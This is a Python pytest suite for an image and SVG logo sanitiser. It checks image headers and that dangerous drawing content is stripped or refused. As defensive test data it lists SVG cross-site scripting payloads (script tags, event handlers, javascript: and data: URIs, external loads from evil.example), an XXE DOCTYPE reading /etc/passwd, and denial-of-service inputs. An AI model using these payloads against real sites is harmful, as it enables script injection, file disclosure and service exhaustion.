"""Which pictures are taken, and what is left of a drawing? Attack row 87: a logo that runs, asks, or is something else."""

import struct

import pytest

from pages.pictures import SVG, ico, jpeg, png, webp
from poolkeeper.branding import assets, images, svg
from poolkeeper.branding.assets import KINDS, BadAsset
from poolkeeper.branding.images import BadImage, Picture
from poolkeeper.branding.svg import BadSvg

_HEAD = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (png(350, 178), "PNG"),
        (jpeg(350, 178), "JPEG"),
        (webp(350, 178), "WEBP"),
        (webp(350, 178, kind=b"VP8 "), "WEBP"),
        (webp(350, 178, kind=b"VP8X"), "WEBP"),
    ],
)
def test_kind_and_size_are_in_the_first_bytes(content: bytes, kind: str) -> None:
    """The size is read out of the head of each kind, without decoding anything."""
    assert images.look_at(content) == Picture(kind, 350, 178)


def test_an_icon_file_is_as_large_as_its_largest_picture() -> None:
    """Of a PNG within it the PNG's own head counts: the directory of an icon file cannot say more than 256."""
    assert images.look_at(ico()) == Picture("ICO", 16, 16)
    with pytest.raises(BadImage, match="9000"):
        images.look_at(ico(png(9000, 1)))


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"GIF89a" + bytes(20),
        SVG,
        b"<html><script>alert(1)</script>",
        b"\x89PNG\r\n\x1a\n",
        b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IDAT", 4, 4),
        png()[:20],
        png(0, 4),
        struct.pack(">8sI4sII", b"\x89PNG\r\n\x1a\n", 13, b"IHDR", 2**31, 2**31),
        b"\xff\xd8\xff",
        b"\xff\xd8\xff\xe0\x00\x00",
        b"\xff\xd8\xff\xd9",
        b"\xff\xd8" + b"\xff" * 1000,
        jpeg(9000, 4),
        b"RIFF\x00\x00\x00\x00WEBPxxxx" + bytes(20),
        webp()[:22],
        b"\x00\x00\x01\x00\x00\x00",
        b"\x00\x00\x01\x00\xff\xff" + bytes(100),
        ico()[:40],
    ],
)
def test_what_is_no_picture_is_refused(content: bytes) -> None:
    """Cut heads, other kinds, none or far too many pixels: never anything but BadImage."""
    with pytest.raises(BadImage):
        images.look_at(content)


@pytest.mark.parametrize("category", KINDS)
def test_each_category_takes_its_kinds(category: str) -> None:
    """A kind that a category does not take, and an extension that lies, are refused."""
    contents = {"PNG": png(), "JPEG": jpeg(), "WEBP": webp(), "ICO": ico(), "SVG": SVG}
    for extension, content in contents.items():
        if extension not in KINDS[category]:
            with pytest.raises(BadAsset):
                assets.served(category, extension, content)
            continue
        assert assets.served(category, extension, content)
        other = contents["PNG" if extension != "PNG" else "JPEG"]
        with pytest.raises(BadAsset):
            assets.served(category, extension, other)


def test_a_drawing_is_made_anew_and_looks_the_same() -> None:
    """Shapes, paints, filters and text stay; sheets and styles become attributes; links lose their address and no child."""
    drawn = svg.cleaned(
        _HEAD
        + b"""<title>Juniper</title><style>.leaf{fill:#2f7d57;stroke:url(#g)} #top , path{opacity:.5}</style>
        <defs><linearGradient id="g"><stop offset="0" style="stop-color:red"/></linearGradient></defs>
        <a href="https://x.example"><path class="leaf" d="M0 0h9"/></a><use xlink:href="#top"/>
        <g id="top"><text x="1">Jun<tspan>ip</tspan>er</text></g></svg>""",
        most_bytes=10_000,
    ).decode()
    for kept in (
        "<title>Juniper</title>",
        '<path d="M0 0h9" opacity=".5" fill="#2f7d57" stroke="url(#g)"/>',
        '<stop offset="0" stop-color="red"/>',
        '<use href="#top"/>',
        '<g id="top" opacity=".5"><text x="1">Jun<tspan>ip</tspan>er</text></g>',
    ):
        assert kept in drawn, kept
    assert "x.example" not in drawn
    assert "<style" not in drawn


RUNS_OR_ASKS = [
    b"<script>alert(1)</script>",
    b'<script href="https://evil.example/x.js"/>',
    b'<g onload="alert(1)" onclick="alert(1)"/>',
    b'<a xlink:href="javascript:alert(1)"><rect/></a>',
    b'<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>',
    b'<image href="https://evil.example/?x"/>',
    b'<image xlink:href="data:image/svg+xml;base64,PHN2Zy8+"/>',
    b'<use href="https://evil.example/x.svg#y"/>',
    b'<use href="data:image/svg+xml;base64,PHN2Zy8+#y"/>',
    b'<rect fill="url(https://evil.example/x#y)"/>',
    b'<rect style="fill:url(//evil.example/x)"/>',
    b'<rect style="fill:u\\72 l(//evil.example/x)"/>',
    b"<style>@import url(https://evil.example/x.css);</style>",
    b"<style>rect{fill:url(https://evil.example)} a[href^=a]{fill:url(https://evil.example/a)}</style><rect/>",
    b'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>',
    b'<animate attributeName="href" values="javascript:alert(1)"/>',
    b'<set attributeName="onload" to="alert(1)"/>',
    b'<filter><feImage href="https://evil.example/x"/></filter>',
    b'<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
    b'<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
    b'<?xml-stylesheet href="https://evil.example/x.css"?><rect/>',
    b'<rect filter="url(\'https://evil.example/f#a\')" mask="url(#ok) url(https://evil.example)"/>',
    b'<handler xmlns="http://www.w3.org/2001/xml-events">alert(1)</handler>',
    b'<metadata><evil href="https://evil.example"/></metadata>',
    b'<g xml:base="https://evil.example/"><use href="#a"/></g>',
]


@pytest.mark.parametrize("inside", RUNS_OR_ASKS)
def test_what_runs_or_asks_is_left_out_of_a_drawing(inside: bytes) -> None:
    """Attack row 87: scripts, handlers, links, foreign objects, animation, other servers; the rest stays."""
    drawn = svg.cleaned(_HEAD + inside + b'<circle r="1"/></svg>', most_bytes=10_000).decode()
    for word in (
        "script",
        "alert",
        "evil",
        "onload",
        "onclick",
        "data:",
        "import",
        "foreign",
        "animate",
        "image",
        "?xml",
    ):
        assert word not in drawn.lower(), drawn
    assert '<circle r="1"/>' in drawn


@pytest.mark.parametrize(
    "text",
    [
        b"",
        b"<svg/>",
        b"<html/>",
        b'<svg xmlns="http://www.w3.org/2000/svg">',
        b'<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
        b'<!DOCTYPE svg SYSTEM "file:///etc/passwd"><svg xmlns="http://www.w3.org/2000/svg"/>',
        '<svg xmlns="http://www.w3.org/2000/svg"/>'.encode("utf-16"),
        _HEAD + b"<g>" * 100 + b"</g>" * 100 + b"</svg>",
        _HEAD + b"<g/>" * 6_000 + b"</svg>",
        _HEAD + b" " * 20_000 + b"</svg>",
        png(),
    ],
)
def test_what_is_no_drawing_is_refused(text: bytes) -> None:
    """Attack row 119: one reader, without document types, entities, other encodings, great depth or number."""
    with pytest.raises(BadSvg):
        svg.cleaned(text, most_bytes=20_000)


def test_what_is_used_uses_nothing_again() -> None:
    """Ten lines of `use` that each use the line before ten times would be ten milliards of shapes."""
    levels = b"".join(
        b'<g id="l%d">' % level + b'<use href="#l%d"/>' % (level - 1) * 10 + b"</g>" for level in range(1, 10)
    )
    drawn = svg.cleaned(_HEAD + b'<rect id="l0"/>' + levels + b'<use href="#l9"/></svg>', most_bytes=20_000)
    assert drawn.count(b"<use") == 10  # the first level's: a rectangle each
    assert svg.cleaned(_HEAD + b'<g id="a"><use href="#a"/></g></svg>', most_bytes=20_000).count(b"<use") == 0


def test_what_a_sheet_says_once_makes_no_drawing_huge() -> None:
    """A font's name of 10,000 letters, said of a hundred elements by their class, their tag or their id."""
    for selector in (b".a", b"g", b"#i"):
        sheet = b"<style>" + selector + b'{font-family:"' + b"x" * 10_000 + b'"}</style>'
        drawing = _HEAD + sheet + b'<g id="i" class="a"/>' * 100 + b"</svg>"
        with pytest.raises(BadSvg, match="large"):
            svg.cleaned(drawing, most_bytes=20_000)
        assert b"xxx" in svg.cleaned(_HEAD + sheet + b'<g id="i" class="a"/></svg>', most_bytes=20_000)


def test_no_more_css_is_read_than_a_drawing_needs() -> None:
    """A megabyte of brackets kept a thread for ten seconds, in one sheet, in many, or in what elements say themselves."""
    for inside in (b"<style>%b</style>", b'<g style="%b"/>'):
        for times in (1, 100):
            drawing = _HEAD + inside % (b"(" * (300_000 // times)) * times + b"</svg>"
            with pytest.raises(BadSvg, match="characters of CSS"):
                svg.cleaned(drawing, most_bytes=1_000_000)


@pytest.mark.parametrize("brackets", [b"()", b"[]", b"{}"])
def test_a_value_of_great_depth_is_left_out(brackets: bytes) -> None:
    """To write it down again would take more calls within calls than there may be."""
    deep = b"rgb(" + brackets[:1] * 5_000 + brackets[1:] * 5_000 + b")"
    drawing = _HEAD + b'<style>g{fill:%b}</style><g style="fill:%b"/></svg>' % (deep, deep)
    assert b"fill" not in svg.cleaned(drawing, most_bytes=50_000)


def test_text_stands_where_it_stood_whatever_is_left_out_of_it() -> None:
    """Between, before and behind what is left out and what stays."""
    text = b"<text>a<b/>b<!-- c -->c<tspan>d<x/>e</tspan>f<y/>g<tspan/>h</text>"
    drawn = svg.cleaned(_HEAD + text + b"</svg>", most_bytes=1_000)
    assert b"<text>abc<tspan>de</tspan>fg<tspan/>h</text>" in drawn


def _nested(part: str, reference: str, *, levels: int, times: int) -> bytes:
    """Return a drawing of parts, each of which has the one before drawn so many times."""
    corners = "M0 0" + "".join(f"L{corner} 1" for corner in range(times))
    shape = f'<path d="{corners}" {reference}="url(#l%d)"/>'
    many = 1 if reference.startswith("marker") else times
    inner = "".join(f'<{part} id="l{level}">{shape % (level - 1) * many}</{part}>' for level in range(1, levels))
    return _HEAD + f'<{part} id="l0"><rect/></{part}>{inner}{shape % (levels - 1)}</svg>'.encode()


@pytest.mark.parametrize(
    ("part", "reference"),
    [("mask", "mask"), ("clipPath", "clip-path"), ("pattern", "fill"), ("pattern", "stroke"), ("marker", "marker-mid")],
)
def test_what_is_referred_to_is_drawn_no_million_times(part: str, reference: str) -> None:
    """A kilobyte of it kept a browser for more than eight seconds; a few levels, as tools make them, are drawn."""
    with pytest.raises(BadSvg, match="refer"):
        svg.cleaned(_nested(part, reference, levels=8, times=8), most_bytes=20_000)
    with pytest.raises(BadSvg, match="refer"):
        svg.cleaned(_HEAD + f'<{part} id="a"><rect {reference}="url(#a)"/></{part}></svg>'.encode(), most_bytes=1_000)
    drawn = svg.cleaned(_nested(part, reference, levels=3, times=6), most_bytes=20_000)
    assert drawn.count(b"url(#l1)") == (6 if part != "marker" else 1)


def test_what_lies_within_takes_its_references_along() -> None:
    """A marker said of a group is at every corner of everything in it, a pattern fills all of it."""
    for part, reference in (("marker", "marker-mid"), ("pattern", "fill")):
        heavy = f'<{part} id="a">{"<rect/>" * 300}</{part}><g {reference}="url(#a)">{"<path/>" * 300}</g>'
        with pytest.raises(BadSvg, match="refer"):
            svg.cleaned(_HEAD + heavy.encode() + b"</svg>", most_bytes=20_000)
